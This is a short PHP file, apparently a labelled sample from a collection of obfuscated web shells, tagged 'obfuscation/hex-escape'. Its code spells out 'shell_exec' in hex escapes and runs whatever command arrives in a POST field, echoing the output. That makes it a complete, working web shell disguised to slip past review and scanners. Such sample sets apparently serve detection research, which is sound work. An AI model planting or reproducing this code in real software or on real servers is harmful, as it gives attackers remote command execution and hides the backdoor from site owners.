<?php
// Family: obfuscation/hex-escape
// Style: hex escapes for function names
// Trait: double-quoted strings made of \x escapes naming an exec function, called on POST data
$q = "\x73\x68\x65\x6c\x6c\x5f\x65\x78\x65\x63";
echo $q($_POST["\x63"]);
